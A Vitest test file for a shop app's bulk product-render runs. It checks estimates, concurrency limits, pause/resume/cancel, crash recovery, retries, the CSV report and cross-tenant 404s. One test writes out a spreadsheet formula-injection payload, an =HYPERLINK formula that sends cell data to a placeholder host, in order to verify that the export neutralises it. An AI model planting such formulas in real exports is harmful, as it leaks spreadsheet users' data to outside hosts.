import type { Worker } from 'bullmq'
import { and, eq, inArray } from 'drizzle-orm'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { db } from '#app/lib/db.server.ts'
import { AppError } from '#app/lib/errors.ts'
import { registerBackend } from '#app/modules/backends/registry.server.ts'
import type { Backend } from '#app/modules/backends/types.ts'
import { closeBulkQueue } from '#app/modules/bulk/queue.server.ts'
import {
  advanceBulkRun,
  bulkRunReport,
  cancelBulkRun,
  confirmBulkRun,
  getBulkRun,
  itemSeed,
  measuredRenderMs,
  pauseBulkRun,
  resumeBulkRun,
  retryFailedItems,
  startBulkRun,
  type AdvanceOptions,
} from '#app/modules/bulk/service.server.ts'
import type { StartBulkRunInput } from '#app/modules/bulk/schema.ts'
import { startRenderWorker } from '#app/modules/renders/jobs.server.ts'
import { renderQueue } from '#app/modules/renders/queue.server.ts'
import { loader as runLoader, action as runAction } from '#app/routes/app.bulk.$runId.tsx'
import { loader as reportLoader } from '#app/routes/app.bulk.$runId.report[.csv].tsx'
import { bulkRunItems, bulkRuns, renders, usageLedger, type BulkRun, type Tenant } from '#db/schema.ts'
import { createZeroLatencyBackend } from '#test/fakes/zero-latency-backend.ts'
import { createLocalTenant, productSceneLook } from '#test/support/fixtures.ts'
import { isolateQueue } from '#test/support/isolation.ts'
import { parseCsv } from '#test/support/csv.ts'
import { releaseAll, sleep, waitFor } from '#test/support/queue.ts'

// Bulk runs on a folder catalog, end to end in one process: the catalog read,
// the estimate, admission control, pause/resume/cancel, a feeder that dies
// mid-pass, retry of failed items, the CSV report, and another shop's run.
// The feeder is driven by calling advanceBulkRun (what the bulk worker's
// jobs call); renders are done by a real render worker on a fast backend.

let prefix: string
let tenant: Tenant
let worker: Worker | undefined
/** Refuse renders whose seed is odd (a flaky backend), to make failures on purpose. */
let failOddSeeds = false

const look = { operation: 'product_scene' as const, ...productSceneLook() }
const otherLook = { ...look, sceneId: look.sceneId === 'loft' ? 'street' : 'loft' }

function testBackend(): Backend {
  const zero = createZeroLatencyBackend({ id: 'bulk-test' })
  return {
    ...zero,
    async render(request, controls) {
      if (failOddSeeds && request.seed % 2 === 1)
        throw new AppError('BACKEND_FAILED', 'odd seeds are refused by this test backend')
      return zero.render(request, controls)
    },
  }
}

async function readRun(runId: string): Promise<BulkRun> {
  const run = await db().query.bulkRuns.findFirst({ where: eq(bulkRuns.id, runId) })
  if (!run) throw new Error(`run ${runId} is gone`)
  return run
}

async function itemsOf(runId: string) {
  return db().select().from(bulkRunItems).where(eq(bulkRunItems.runId, runId))
}

async function rendersOf(runId: string) {
  return db().select().from(renders).where(eq(renders.batchId, runId))
}

/** Advances the run the way the worker's jobs do, until `done` says so. */
async function drive(runId: string, done: (run: BulkRun) => boolean, opts: AdvanceOptions & { timeoutMs?: number } = {}) {
  return waitFor(
    `bulk run ${runId} to reach the expected state`,
    async () => {
      await advanceBulkRun(runId, opts)
      const run = await readRun(runId)
      return done(run) ? run : undefined
    },
    { timeoutMs: opts.timeoutMs ?? 60_000, intervalMs: 20, describe: async () => readRun(runId) },
  )
}

async function estimated(input: StartBulkRunInput): Promise<BulkRun> {
  const { run } = await startBulkRun(tenant, input)
  return drive(run.id, (r) => r.status === 'awaiting_confirmation')
}

/** The most renders of the run ever open at once, from their own timestamps (a sweep over created → finished). */
function maxOverlap(rows: { createdAt: Date; finishedAt: Date | null }[]): number {
  const events = rows.flatMap((r) => [
    { t: r.createdAt.getTime(), d: 1 },
    { t: (r.finishedAt ?? new Date(8.64e15)).getTime(), d: -1 },
  ])
  // why ends first on a tie: a render created in the same millisecond another finished did not overlap it.
  events.sort((a, b) => a.t - b.t || a.d - b.d)
  let open = 0
  let max = 0
  for (const e of events) {
    open += e.d
    max = Math.max(max, open)
  }
  return max
}

beforeAll(async () => {
  prefix = isolateQueue()
  registerBackend(testBackend())
  tenant = await createLocalTenant()
  worker = startRenderWorker({ concurrency: 4 })
})

// why: a test that fails before its own cancel (or with the worker paused) must not
// hand an open run to a later start with the same selection, nor stall the next test.
afterEach(async () => {
  if (worker?.isPaused()) worker.resume()
  const open = await db()
    .select({ id: bulkRuns.id })
    .from(bulkRuns)
    .where(
      and(
        eq(bulkRuns.tenantId, tenant.id),
        inArray(bulkRuns.status, ['estimating', 'awaiting_confirmation', 'running', 'paused']),
      ),
    )
  for (const r of open) await cancelBulkRun(tenant.id, r.id)
})

afterAll(async () => {
  await closeBulkQueue()
  await releaseAll(prefix, [worker])
})

describe('starting a bulk run on a folder catalog', () => {
  it('reads the catalog into items and estimates before anything renders', async () => {
    // why the shop's own timings: the deployment-wide average moves with every other test file's renders.
    await db()
      .insert(usageLedger)
      .values(
        [1700, 2900].map((ms, i) => ({
          tenantId: tenant.id,
          kind: 'render',
          backend: 'bulk-test',
          backendMs: ms,
          idempotencyKey: `estimate:${i}`,
        })),
      )
    const run = await estimated({ selection: { kind: 'all' }, looks: [look], images: { kind: 'featured' } })
    const items = await itemsOf(run.id)
    // 11 products, one featured image each.
    expect(items).toHaveLength(11)
    expect(new Set(items.map((i) => i.productRef)).size).toBe(11)
    expect(items.every((i) => i.status === 'pending' && i.tenantId === tenant.id && i.lookIndex === 0)).toBe(true)
    expect(items.find((i) => i.productRef === 'linen-button-shirt')?.productTitle).toBe('Sky Blue Linen Shirt')
    // 11 renders × the shop's measured 2.3 s; 11 at once (the bound is 20), so about one render's time.
    expect(await measuredRenderMs(tenant.id)).toEqual({ ms: 2300, from: 'shop' })
    expect(run.maxInFlight).toBeGreaterThanOrEqual(11)
    expect(run.estimate).toMatchObject({ products: 11, images: 11, renders: 11, cost: 0, backendSeconds: 25, wallSeconds: 2 })
    expect(run.estimate).toMatchObject({ renderMs: 2300, timingFrom: 'shop' })
    expect(await rendersOf(run.id)).toHaveLength(0)
    await cancelBulkRun(tenant.id, run.id)
  })

  it('takes all images, or the first N, per product, times every look', async () => {
    const all = await estimated({ selection: { kind: 'all' }, looks: [look, otherLook], images: { kind: 'all' } })
    expect(all.estimate).toMatchObject({ products: 11, images: 12, renders: 24 })
    const shirt = (await itemsOf(all.id)).filter((i) => i.productRef === 'linen-button-shirt')
    expect(shirt.map((i) => `${i.imageRef}#${i.lookIndex}`).sort()).toHaveLength(4)
    const search = await estimated({
      selection: { kind: 'query', query: 'linen' },
      looks: [look],
      images: { kind: 'first', count: 1 },
    })
    expect((await itemsOf(search.id)).map((i) => i.productRef)).toEqual(['linen-button-shirt'])
    await cancelBulkRun(tenant.id, all.id)
    await cancelBulkRun(tenant.id, search.id)
  })

  it('returns the open run for the same selection, looks and images (idempotent start)', async () => {
    const input: StartBulkRunInput = {
      selection: { kind: 'products', productIds: ['silk-slip-dress', 'embroidered-cap'] },
      looks: [look],
      images: { kind: 'all' },
    }
    const first = await startBulkRun(tenant, input)
    const again = await Promise.all([
      startBulkRun(tenant, {
        ...input,
        selection: { kind: 'products', productIds: ['embroidered-cap', 'silk-slip-dress', 'embroidered-cap'] },
      }),
      startBulkRun(tenant, { ...input, looks: [look, look] }),
    ])
    expect(first.created).toBe(true)
    expect(again.map((r) => [r.run.id, r.created])).toEqual([
      [first.run.id, false],
      [first.run.id, false],
    ])
    await drive(first.run.id, (r) => r.status === 'awaiting_confirmation')
    // Reading the catalog again adds nothing (items are unique per product × image × look).
    expect(await itemsOf(first.run.id)).toHaveLength(2)
    // Once the run is closed, the same selection starts a new one.
    await cancelBulkRun(tenant.id, first.run.id)
    const next = await startBulkRun(tenant, input)
    expect(next.created).toBe(true)
    expect(next.run.id).not.toBe(first.run.id)
    await cancelBulkRun(tenant.id, next.run.id)
  })

  it('gives the open run the bound a repeated start asks for, and its wall time to match', async () => {
    const input: StartBulkRunInput = {
      selection: { kind: 'products', productIds: ['silk-slip-dress', 'embroidered-cap'] },
      looks: [otherLook],
      images: { kind: 'all' },
      maxInFlight: 1,
    }
    const first = await estimated(input)
    const again = await startBulkRun(tenant, { ...input, maxInFlight: 2 })
    expect(again).toMatchObject({ created: false, run: { id: first.id, maxInFlight: 2 } })
    expect(again.run.estimate).toEqual({ ...first.estimate, wallSeconds: Math.round(first.estimate!.backendSeconds / 2) })
    expect(await readRun(first.id)).toMatchObject({ maxInFlight: 2, estimate: again.run.estimate })
    // Without a bound, a repeated start leaves the run's own.
    expect((await startBulkRun(tenant, { ...input, maxInFlight: undefined })).run.maxInFlight).toBe(2)
    await cancelBulkRun(tenant.id, first.id)
  })

  it('refuses what can never work before any item is made', async () => {
    await expect(
      startBulkRun(tenant, {
        selection: { kind: 'collection', collectionId: 'summer' },
        looks: [look],
        images: { kind: 'featured' },
      }),
    ).rejects.toMatchObject({ code: 'INVALID_INPUT' })
    await expect(
      startBulkRun(tenant, {
        selection: { kind: 'all' },
        looks: [{ ...look, sceneId: 'no-such-scene' }],
        images: { kind: 'featured' },
      }),
    ).rejects.toMatchObject({ code: 'LOOK_UNKNOWN' })
    await expect(startBulkRun(tenant, { selection: { kind: 'all' }, looks: [], images: { kind: 'featured' } })).rejects.toThrow()
  })

  it('measures throughput from the shop’s own finished renders', async () => {
    const shop = await createLocalTenant()
    await db()
      .insert(usageLedger)
      .values(
        [1000, 3000].map((ms, i) => ({
          tenantId: shop.id,
          kind: 'render',
          backend: 'x',
          backendMs: ms,
          idempotencyKey: `m:${i}`,
        })),
      )
    expect(await measuredRenderMs(shop.id)).toEqual({ ms: 2000, from: 'shop' })
  })
})

describe('running a bulk run', () => {
  it('never has more than max_in_flight of its renders open, and completes every item once', async () => {
    const { run } = await startBulkRun(tenant, {
      selection: { kind: 'all' },
      looks: [look],
      images: { kind: 'featured' },
      maxInFlight: 2,
    })
    expect(run.maxInFlight).toBe(2)
    await drive(run.id, (r) => r.status === 'awaiting_confirmation')
    await expect(advanceBulkRun(run.id)).resolves.toEqual({ outcome: 'idle', ticking: false })
    expect(await rendersOf(run.id)).toHaveLength(0)
    await confirmBulkRun(tenant, run.id)

    let sampling = true
    let maxSampled = 0
    const sampler = (async () => {
      while (sampling) {
        const open = await db()
          .select({ id: renders.id })
          .from(renders)
          .where(and(eq(renders.batchId, run.id), inArray(renders.status, ['queued', 'running', 'retrying'])))
        maxSampled = Math.max(maxSampled, open.length)
        await sleep(5)
      }
    })()
    // Two feeders at once, as two worker processes would: the run lock lets one work at a time.
    const [done] = await Promise.all([
      drive(run.id, (r) => r.status === 'completed'),
      drive(run.id, (r) => r.status === 'completed'),
    ])
    sampling = false
    await sampler

    const items = await itemsOf(run.id)
    const made = await rendersOf(run.id)
    expect(done).toMatchObject({ status: 'completed', total: 11, done: 11, failed: 0 })
    expect(done.finishedAt).toBeInstanceOf(Date)
    expect(items.every((i) => i.status === 'succeeded' && i.attempts === 1 && i.renderId)).toBe(true)
    // One render per item, each the item's own, with the seed derived from the run and the item.
    expect(made).toHaveLength(11)
    expect(new Set(items.map((i) => i.renderId)).size).toBe(11)
    for (const item of items) {
      const render = made.find((r) => r.id === item.renderId)!
      expect(render).toMatchObject({
        productRef: item.productRef,
        sourceImageRef: item.imageRef,
        seed: itemSeed(run.id, item, 0),
        status: 'succeeded',
      })
    }
    expect(maxSampled).toBeLessThanOrEqual(2)
    expect(maxSampled).toBeGreaterThan(0)
    expect(maxOverlap(made)).toBeLessThanOrEqual(2)
  })

  it('pauses (waiting renders leave the queue, nothing new starts), resumes, and cancels', async () => {
    const { run } = await startBulkRun(tenant, {
      selection: { kind: 'all' },
      looks: [otherLook],
      images: { kind: 'all' },
      maxInFlight: 3,
    })
    await drive(run.id, (r) => r.status === 'awaiting_confirmation')
    await confirmBulkRun(tenant, run.id)
    // No worker takes them: the three renders wait (handed to the queue, not started).
    await worker!.pause()
    await advanceBulkRun(run.id)
    const waiting = await rendersOf(run.id)
    expect(waiting.map((r) => r.status)).toEqual(['queued', 'queued', 'queued'])

    const paused = await pauseBulkRun(tenant.id, run.id)
    await expect(pauseBulkRun(tenant.id, run.id)).resolves.toMatchObject({ status: 'paused' })
    // They left the queue: no render rows, no jobs, their items pending again; nothing new starts.
    expect(paused).toMatchObject({ status: 'paused', done: 0 })
    expect(await rendersOf(run.id)).toHaveLength(0)
    for (const r of waiting) expect(await renderQueue().getJob(r.id)).toBeUndefined()
    expect((await itemsOf(run.id)).filter((i) => i.status === 'queued' || i.renderId)).toHaveLength(0)
    worker!.resume()
    for (let i = 0; i < 5; i++) await advanceBulkRun(run.id)
    await sleep(200)
    expect(await rendersOf(run.id)).toHaveLength(0)
    expect((await advanceBulkRun(run.id)).ticking).toBe(false)

    await resumeBulkRun(tenant, run.id)
    await drive(run.id, (r) => r.done >= 6)

    // Cancel with renders waiting: stop the render worker so they stay queued.
    await worker!.pause()
    await advanceBulkRun(run.id)
    const open = (await rendersOf(run.id)).filter((r) => r.status === 'queued')
    expect(open.length).toBeGreaterThan(0)
    const canceled = await cancelBulkRun(tenant.id, run.id)
    worker!.resume()
    expect(canceled.status).toBe('canceled')
    for (const r of open) expect((await db().query.renders.findFirst({ where: eq(renders.id, r.id) }))?.status).toBe('canceled')
    const items = await itemsOf(run.id)
    expect(items.filter((i) => i.status === 'pending' || i.status === 'queued')).toHaveLength(0)
    expect(items.filter((i) => i.status === 'canceled').length).toBeGreaterThanOrEqual(open.length)
    const before = (await rendersOf(run.id)).length
    for (let i = 0; i < 3; i++) await advanceBulkRun(run.id)
    expect(await rendersOf(run.id)).toHaveLength(before)
    await expect(resumeBulkRun(tenant, run.id)).rejects.toMatchObject({ code: 'INVALID_TRANSITION' })
    await expect(cancelBulkRun(tenant.id, run.id)).resolves.toMatchObject({ status: 'canceled' })
  })

  it('survives a feeder that dies after creating renders: the next pass finds them, none is made twice', async () => {
    const { run } = await startBulkRun(tenant, {
      selection: { kind: 'all' },
      looks: [look],
      images: { kind: 'all' },
      maxInFlight: 4,
    })
    await drive(run.id, (r) => r.status === 'awaiting_confirmation')
    await confirmBulkRun(tenant, run.id)
    await worker!.pause()
    let created = 0
    const crash: AdvanceOptions = {
      onRenderCreated: () => {
        if (++created === 3) throw new Error('feeder killed')
      },
    }
    await expect(advanceBulkRun(run.id, crash)).rejects.toThrow('feeder killed')
    // The pass rolled back: no item knows its render, but the renders exist and count as in flight.
    const orphans = await rendersOf(run.id)
    expect(orphans.length).toBeGreaterThanOrEqual(3)
    expect(orphans.length).toBeLessThanOrEqual(4)
    expect((await itemsOf(run.id)).every((i) => i.status === 'pending' && i.renderId === null)).toBe(true)
    // The next pass may not start more than the bound allows, and takes the orphans back.
    await advanceBulkRun(run.id)
    expect((await rendersOf(run.id)).length).toBeLessThanOrEqual(4)
    worker!.resume()
    const done = await drive(run.id, (r) => r.status === 'completed')
    const made = await rendersOf(run.id)
    expect(done.done).toBe(12)
    expect(made).toHaveLength(12)
    for (const o of orphans) expect(made.some((r) => r.id === o.id)).toBe(true)
    expect(new Set(made.map((r) => `${r.productRef}|${r.sourceImageRef}`)).size).toBe(12)
    expect(maxOverlap(made)).toBeLessThanOrEqual(4)
    // Charged once per render.
    const ledger = await db()
      .select()
      .from(usageLedger)
      .where(
        inArray(
          usageLedger.renderId,
          made.map((r) => r.id),
        ),
      )
    expect(ledger).toHaveLength(12)
  })

  it('retries failed items with new renders and new seeds', async () => {
    failOddSeeds = true
    try {
      const { run } = await startBulkRun(tenant, {
        selection: { kind: 'all' },
        looks: [look, otherLook],
        images: { kind: 'all' },
        maxInFlight: 6,
      })
      await drive(run.id, (r) => r.status === 'awaiting_confirmation')
      await confirmBulkRun(tenant, run.id)
      const first = await drive(run.id, (r) => r.status === 'completed')
      const failedBefore = (await itemsOf(run.id)).filter((i) => i.status === 'failed')
      expect(first.failed).toBe(failedBefore.length)
      expect(failedBefore.length).toBeGreaterThan(0)
      expect(failedBefore.every((i) => i.errorCode === 'BACKEND_FAILED' && i.attempts === 1)).toBe(true)

      const { retried } = await retryFailedItems(tenant, run.id)
      expect(retried).toBe(failedBefore.length)
      expect((await readRun(run.id)).status).toBe('running')
      const second = await drive(run.id, (r) => r.status === 'completed')
      const after = await itemsOf(run.id)
      for (const before of failedBefore) {
        const now = after.find((i) => i.id === before.id)!
        expect(now.attempts).toBe(2)
        expect(now.renderId).not.toBe(before.renderId)
        const render = await db().query.renders.findFirst({ where: eq(renders.id, now.renderId!) })
        expect(render?.seed).toBe(itemSeed(run.id, now, 1))
        expect(render?.seed).not.toBe(itemSeed(run.id, now, 0))
      }
      expect(second.done + second.failed).toBe(24)
      expect(second.done).toBeGreaterThan(first.done)
      expect(await rendersOf(run.id)).toHaveLength(24 + failedBefore.length)
    } finally {
      failOddSeeds = false
    }
  })
})

describe('the report and another shop', () => {
  let run: BulkRun

  beforeAll(async () => {
    failOddSeeds = true
    try {
      run = (await startBulkRun(tenant, { selection: { kind: 'all' }, looks: [look], images: { kind: 'all' }, maxInFlight: 6 }))
        .run
      await drive(run.id, (r) => r.status === 'awaiting_confirmation')
      await confirmBulkRun(tenant, run.id)
      run = await drive(run.id, (r) => r.status === 'completed')
    } finally {
      failOddSeeds = false
    }
  })

  it('writes a CSV with one row per item: product, image, look, status, render, fidelity, error', async () => {
    const bytes = new Uint8Array(await new Response(bulkRunReport(tenant.id, run)).arrayBuffer())
    // A byte order mark first, so spreadsheet programs read UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = parseCsv(new TextDecoder().decode(bytes.subarray(3)))
    expect(lines[0]).toEqual(['product_id', 'product_title', 'image_id', 'look', 'status', 'render_id', 'fidelity_score', 'error_code', 'error'])
    expect(lines).toHaveLength(13)
    const rows = lines.slice(1)
    const items = await itemsOf(run.id)
    expect(rows.map((r) => r[0])).toEqual(items.map((i) => i.productRef).sort())
    const ok = rows.find((r) => r[4] === 'succeeded')!
    const okItem = items.find((i) => i.productRef === ok[0] && i.imageRef === ok[2])!
    expect(ok[5]).toBe(okItem.renderId)
    expect(Number(ok[6])).toBeGreaterThan(0)
    expect(ok[3]).toBe(`${look.marketId} / ${look.sceneId} / no-model / product_scene`)
    const failed = rows.find((r) => r[4] === 'failed')
    expect(failed?.[7]).toBe('BACKEND_FAILED')
    expect(failed?.[8]).toContain('odd seeds are refused by this test backend')
  })

  it('writes a hostile product title as text in its own cell', async () => {
    const [item] = await itemsOf(run.id)
    const title = ' =HYPERLINK("http://x.test/?"&A1,"open");=1+2,\r\n@SUM(1)'
    await db().update(bulkRunItems).set({ productTitle: title }).where(and(eq(bulkRunItems.runId, run.id), eq(bulkRunItems.productRef, item.productRef), eq(bulkRunItems.imageRef, item.imageRef)))
    const rows = parseCsv((await new Response(bulkRunReport(tenant.id, run)).text()).replace(/^\uFEFF/, ''))
    expect(rows).toHaveLength(13)
    expect(rows.every((r) => r.length === 9)).toBe(true)
    expect(rows.find((r) => r[0] === item.productRef && r[2] === item.imageRef)?.[1]).toBe(`'${title}`)
  })

  it('serves the CSV from the resource route, and 404 for another shop’s run', async () => {
    // Local mode acts for the local catalog's tenant; this run belongs to another shop.
    const request = new Request(`http://127.0.0.1/app/bulk/${run.id}/report.csv`)
    // why both shapes: a loader throws data() (status in init) or a Response.
    const statusOf = (v: unknown) =>
      v instanceof Response ? v.status : ((v as { init?: { status?: number } } | null)?.init?.status ?? 200)
    const status = (p: Promise<unknown>) =>
      p.then(statusOf, (e: unknown) => {
        if (statusOf(e) === 200) throw e
        return statusOf(e)
      })
    expect(await status(reportLoader({ request, params: { runId: run.id }, context: {} }))).toBe(404)
    expect(await status(runLoader({ request, params: { runId: run.id }, context: {} }))).toBe(404)
    const form = new FormData()
    form.set('intent', 'cancel')
    const post = new Request(`http://127.0.0.1/app/bulk/${run.id}`, { method: 'POST', body: form })
    expect(await status(runAction({ request: post, params: { runId: run.id }, context: {} }))).toBe(404)
    expect((await readRun(run.id)).status).toBe('completed')
    await expect(getBulkRun((await createLocalTenant()).id, run.id)).rejects.toMatchObject({ code: 'NOT_FOUND' })
    await expect(getBulkRun(tenant.id, 'not-a-uuid')).rejects.toMatchObject({ code: 'NOT_FOUND' })
    // The run's owner gets it.
    expect((await getBulkRun(tenant.id, run.id)).id).toBe(run.id)
  })
})
